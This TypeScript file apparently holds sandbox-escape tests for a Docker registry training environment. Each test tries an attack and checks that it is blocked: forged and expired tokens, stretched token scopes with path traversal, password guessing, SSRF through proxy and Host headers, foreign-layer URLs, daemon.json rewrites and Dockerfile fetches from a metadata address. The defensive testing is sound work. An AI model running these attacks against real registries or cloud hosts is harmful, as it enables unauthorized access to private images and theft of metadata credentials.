import { type Attempt, control } from '../attempt.ts';
import { forgedTokens, signedToken, signerOf } from '../forged-tokens.ts';
import { askHub, mayPush, pushOwn, tokenFor } from '../hub-client.ts';
import { answerOnHost, REACHED } from '../outside.ts';
import type { Range } from '../range.ts';
import { hostReaches } from '../reach.ts';
import { shell } from '../script.ts';

const SCOPE = 'a token allows an account its own names, and reading library/*';
const SIGNATURE = 'the registry takes tokens of the class CA’s signer, for itself, in their time';
const EGRESS = 'Drydock’s firewall; the learner’s engine pulls from the learner’s network';

export const hub: readonly Attempt[] = [
  attempt('push to another’s name at the hub', SCOPE, async ({ ann, bob }) => {
    await ownPush(ann);
    return refusedPush(ann, `${bob.hub.username}/stolen`);
  }),
  attempt('push to library/ at the hub', SCOPE, async ({ ann }) => {
    await ownPush(ann);
    return refusedPush(ann, 'library/alpine');
  }),
  attempt('pull another’s private image', SCOPE, async ({ ann, bob }) => {
    const repository = `${bob.hub.username}/private`;
    await pushOwn(bob, repository);
    const path = `/v2/${repository}/manifests/latest`;
    const own = await askHub(bob, {
      path,
      token: await tokenFor(bob, `repository:${repository}:pull`),
    });
    control(
      own.status !== 401 && own.status < 500 && own.status !== 403,
      `its owner reads it: ${own.status}`,
    );
    const token = await tokenFor(ann, `repository:${repository}:pull`);
    const manifest = await askHub(ann, { path, token });
    const pulled = await ann.run(shell(`docker pull ${repository}; echo code $?`));
    // Mounting a layer from another’s repository into an own one reads it, too.
    const mine = `${ann.hub.username}/mine`;
    const digest = /sha256:[0-9a-f]{64}/.exec(own.text)?.[0] ?? `sha256:${'0'.repeat(64)}`;
    const both = await tokenFor(ann, `repository:${mine}:pull,push repository:${repository}:pull`);
    const mounted = await askHub(ann, {
      method: 'POST',
      path: `/v2/${mine}/blobs/uploads/?mount=${digest}&from=${repository}`,
      token: both,
      body: '',
    });
    const blocked =
      manifest.status === 401 && !pulled.output.includes('code 0') && mounted.status !== 201;
    return { blocked, evidence: `manifest ${manifest.status}, mount ${mounted.status}` };
  }),
  attempt(
    'log in to the hub as another',
    'an account’s password is its session’s alone',
    async ({ ann, bob }) => {
      const scope = `repository:${bob.hub.username}/private:pull,push`;
      const path = `/token?service=registry.docker.io&scope=${scope}`;
      const own = await askHub(bob, { host: 'auth.docker.io', path, login: bob.hub });
      control(own.status === 200, 'its owner logs in');
      const passwords = ['', ann.hub.password, bob.hub.username, 'x'.repeat(100_000), '\t'];
      const statuses: number[] = [];
      for (const password of passwords) {
        statuses.push(
          (
            await askHub(ann, {
              host: 'auth.docker.io',
              path,
              login: { username: bob.hub.username, password },
            })
          ).status,
        );
      }
      return { blocked: !statuses.includes(200), evidence: `HTTP ${statuses.join(', ')}` };
    },
  ),
  attempt(
    'use a forged token (alg none, HMAC with the public key, own key)',
    SIGNATURE,
    async (range) => {
      const { ann, bob } = range;
      const repository = `${bob.hub.username}/private`;
      const signer = await signerOf(range.prepared);
      const real = signedToken(signer, { repository });
      control(
        (await mayPush(ann, repository, real)).status === 202,
        'a token of the real signer is taken',
      );
      const forged = forgedTokens(signer, { repository });
      return allRefused(range, repository, forged);
    },
  ),
  attempt('use a token that has expired, or is for another service', SIGNATURE, async (range) => {
    const repository = `${range.bob.hub.username}/private`;
    const signer = await signerOf(range.prepared);
    const real = signedToken(signer, { repository });
    control(
      (await mayPush(range.ann, repository, real)).status === 202,
      'one of now and for it is taken',
    );
    const tokens = [
      signedToken(signer, { repository, since: -7200 }),
      signedToken(signer, { repository, since: 7200 }),
      signedToken(signer, { repository, audience: 'another.service' }),
      signedToken(signer, { repository, issuer: 'another' }),
    ];
    return allRefused(range, repository, tokens);
  }),
  attempt(
    'have the hub fetch from the host (proxy, Host, foreign layers)',
    'the hub asks nobody; nginx knows its own names',
    async (range) => {
      const { ann, outside } = range;
      const target = { address: outside.metadata, port: outside.port };
      await hostReaches(target);
      control((await askHub(ann, { path: '/v2/' })).status === 401, 'the hub answers');
      const at = `${target.address}:${target.port}`;
      const seen = outside.visits.length;
      const repository = `${ann.hub.username}/foreign`;
      const token = await tokenFor(ann, `repository:${repository}:pull,push`);
      const layer = {
        mediaType: 'application/vnd.docker.image.rootfs.foreign.diff.tar.gzip',
        size: 10,
        digest: `sha256:${'a'.repeat(64)}`,
        urls: [`http://${at}/layer`],
      };
      const manifest = JSON.stringify({
        schemaVersion: 2,
        mediaType: 'application/vnd.docker.distribution.manifest.v2+json',
        config: { ...layer, mediaType: 'application/vnd.docker.container.image.v1+json' },
        layers: [layer],
      });
      const type = { 'content-type': 'application/vnd.docker.distribution.manifest.v2+json' };
      await askHub(ann, {
        method: 'PUT',
        path: `/v2/${repository}/manifests/latest`,
        token,
        headers: type,
        body: manifest,
      });
      const { output } = await ann.run(
        shell(`
      for url in http://${at}/ https://${at}/; do
        curl --silent --max-time 5 --proxy https://registry-1.docker.io --proxy-insecure $url
        curl --silent --max-time 5 --proxytunnel --proxy https://registry-1.docker.io --proxy-insecure $url
      done
      for host in ${at} localhost unix:/run/drydock/token.sock; do
        for path in / /v2/ //${at}/ /token /v2/..%2f..%2ftoken; do curl --silent --insecure --max-time 5 --path-as-is -H "Host: $host" https://registry-1.docker.io$path; done
      done; echo TRIED`),
      );
      control(output.includes('TRIED'), 'all of it was asked');
      const blocked = !output.includes(REACHED) && outside.visits.length === seen;
      return { blocked, evidence: blocked ? 'the hub asked nobody' : output.slice(0, 120) };
    },
  ),
  attempt('have the learner’s engine pull from a registry on the host', EGRESS, async (range) => {
    const service = await answerOnHost(range.ann.gateway);
    const own = await answerOnHost('127.0.0.1', service.port);
    for (const each of [service, own]) range.atEnd(each.close);
    await hostReaches(service);
    const outside = { address: range.outside.neighbour, port: range.outside.port };
    await hostReaches(outside);
    const before = [service, own, range.outside].map(({ visits }) => visits.length);
    const places = [
      `${service.address}:${service.port}`,
      `127.0.0.1:${service.port}`,
      `10.0.2.2:${service.port}`,
      `${outside.address}:${outside.port}`,
      `${range.outside.metadata}:${outside.port}`,
    ];
    const { output } = await range.ann.run(
      shell(`
      for folder in /etc/docker /root/.config/docker; do
        mkdir -p $folder
        printf '{"insecure-registries": ["0.0.0.0/0"], "registry-mirrors": ["http://${places[0]}", "http://${places[3]}"]}' > $folder/daemon.json
      done
      kill -HUP $(cat /run/docker.pid)
      for turn in $(seq 100); do docker info 2> /dev/null | grep -q '${places[0]}' && echo CONFIGURED && break; done
      for place in ${places.join(' ')}; do timeout 8 docker pull $place/library/x; done
      timeout 8 docker pull library/mirrored-x
      rm /etc/docker/daemon.json /root/.config/docker/daemon.json; kill -HUP $(cat /run/docker.pid); echo TRIED`),
    );
    control(
      output.includes('CONFIGURED') && output.includes('TRIED'),
      `the engine takes the registries: ${output.slice(-200)}`,
    );
    const after = [service, own, range.outside].map(({ visits }) => visits.length);
    const blocked = after.every((count, index) => count === before[index]);
    return {
      blocked,
      evidence: blocked ? 'nobody of the host was asked' : `asked: ${after}, before: ${before}`,
    };
  }),
  attempt('have a build fetch from the metadata address (ADD, RUN)', EGRESS, async (range) => {
    const { ann, outside } = range;
    const at = `${outside.metadata}:${outside.port}`;
    await hostReaches({ address: outside.metadata, port: outside.port });
    const seen = outside.visits.length;
    const { output } = await ann.run(
      shell(`
      mkdir -p /tmp/build && cd /tmp/build
      printf 'FROM alpine\\nRUN echo built-$((40 + 2)) > /x\\n' > Dockerfile && docker build --quiet . && echo BUILDS
      printf 'FROM alpine\\nADD http://${at}/latest/meta-data /x\\nRUN cat /x\\n' > Dockerfile; timeout 15 docker build --progress plain .
      printf 'FROM alpine\\nRUN wget -T 3 -O - http://${at}/\\n' > Dockerfile; timeout 15 docker build --progress plain --network host .
      timeout 10 docker build http://${at}/context.tar
      echo TRIED`),
    );
    control(
      output.includes('BUILDS') && output.includes('TRIED'),
      `builds work: ${output.slice(-300)}`,
    );
    const blocked = !output.includes(REACHED) && outside.visits.length === seen;
    return { blocked, evidence: blocked ? 'nobody was asked' : 'it was asked' };
  }),
];

async function ownPush(ann: Range['ann']): Promise<void> {
  const own = `${ann.hub.username}/own`;
  const { status } = await mayPush(ann, own, await tokenFor(ann, `repository:${own}:pull,push`));
  control(status === 202, `a push to the own name is let in: ${status}`);
}

async function refusedPush(ann: Range['ann'], repository: string) {
  const own = `${ann.hub.username}/own`;
  const scopes = [
    `repository:${repository}:pull,push`,
    `repository:${repository}:*`,
    `repository:${own}:push repository:${repository}:push`,
    `repository(plugin):${repository}:push`,
    `repository:${own}/../../${repository}:push`,
    'registry:catalog:*',
  ];
  const statuses: number[] = [];
  for (const scope of scopes)
    statuses.push((await mayPush(ann, repository, await tokenFor(ann, scope))).status);
  statuses.push((await mayPush(ann, repository, undefined)).status);
  return {
    blocked: statuses.every((status) => status === 401 || status === 403),
    evidence: `HTTP ${[...new Set(statuses)].join(', ')}`,
  };
}

async function allRefused({ ann }: Range, repository: string, tokens: readonly string[]) {
  const statuses: number[] = [];
  for (const token of tokens) statuses.push((await mayPush(ann, repository, token)).status);
  return {
    blocked: statuses.every((status) => status === 401 || status === 403 || status === 400),
    evidence: `${tokens.length} tokens: HTTP ${[...new Set(statuses)].join(', ')}`,
  };
}

function attempt(name: string, blockedBy: string, run: Attempt['run']): Attempt {
  return { topic: 'hub', name, blockedBy, run };
}
